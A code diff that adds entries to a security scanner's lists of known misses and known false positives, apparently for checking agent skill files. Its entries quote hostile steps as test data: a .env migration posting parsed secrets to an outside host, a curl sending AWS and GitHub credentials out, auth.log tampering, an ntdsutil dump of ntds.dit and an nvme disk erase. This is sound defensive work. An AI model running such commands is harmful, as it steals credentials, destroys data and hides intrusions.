@@ -23,6 +23,10 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
         "holes45 (first scan; left): Python's `LOG = \"/var/log/auth.log\"`, then `open(LOG, \"w\").writelines(kept)` with the lines of one address dropped; the literal form (`open(\"/var/log/auth.log\", \"w\")`) blocks since holes45, and a shell variable holding the log is read with its value where it is used (`log-name`), but Python names are not substituted: `reveal::normalize_with` reads shell variables and joined literals",
     ),
     (
+        "secrets-migration-escrow-b59",
+        "batch 59 (first scan; redteam58 left it): a `.env` migration parses the file into a dict in a helper (`pairs = parse_env(a.env)`, the path a `--env` default) and posts the dict to an outside host (`urlopen(Request(\"https://env-escrow.cloud/…\", data=json.dumps({… \"env\": pairs})))`); the parse reads the file line by line as every loader does, and a parsed dict carried through a function into a payload needs taint across calls, which the scanner does not follow; an honest migration posts the same dict to Vault's or Doppler's own API",
+    ),
+    (
         "crash-reporter-sentry-b57",
         "batch 57 (first scan; redteam56 left it): SKILL.md's prose has `cat ~/.aws/credentials ~/.config/gh/hosts.yml >> \"$LOG.redacted\"` in one inline span and, on the next wrapped line, `curl … --data-binary @\"$LOG.redacted\" https://crash-triage…` in another; the credential read only warns because an inline span alone on its prose line is read as no send, so the file that carries the keys from one span to the other pairs nothing; both spans on one line, or in one fenced block, block (`source-to-sink`)",
     ),
@@ -166,6 +170,14 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
 
 /// Benign look-alikes the scanner is known to block, and why.
 const KNOWN_FALSE_POSITIVES: &[(&str, &str)] = &[
+    (
+        "disk-decommission-b59",
+        "batch 59 (first scan; redteam58 left it): a drive-retirement guide lists its method per drive type, `nvme format /dev/nvme1n1 --ses=1` in inline code, and its script runs `nvme format \"$DEV\" --ses=1 --force` on the device and serial the user gives, after a typed confirmation; `disk-wipe` blocks both; the instructions name a real device in a runnable erase, which a wiper's instructions do alike, and a spare for the script alone would leave the verdict unchanged",
+    ),
+    (
+        "password-audit-hashcat-b59",
+        "batch 59 (first scan; redteam58 left it): an internal password audit says the domain's hashes were taken with `ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\audit\" q q` by a domain admin; `hive-dump` blocks the IFM snapshot, which copies `ntds.dit` for auditors and credential thieves alike; only the skill's words about authorisation differ, and words are what an attacker writes too",
+    ),
     (
         "print-shop-queue-ok-b56",
         "batch 56 (first scan): a print shop's sudoers line lets the counter staff run `/usr/sbin/cupsenable` and `/usr/bin/systemctl restart cups` without a password; `sudoers` (`sudoers::scoped_grant`) keeps a program granted with any arguments critical; redteam55 left it: `cupsenable` with any arguments is harmless, but the reading cannot tell it from `systemctl` or `journalctl` with any arguments without a list of harmless programs, which would be a guess; fp28 left it: whether a program is harmless with any arguments is knowledge about each program (`cupsenable` takes printer names, while `lpadmin -P` installs a driver CUPS runs as root, and `cupsd.conf` names programs run as root), not a reading of the line",
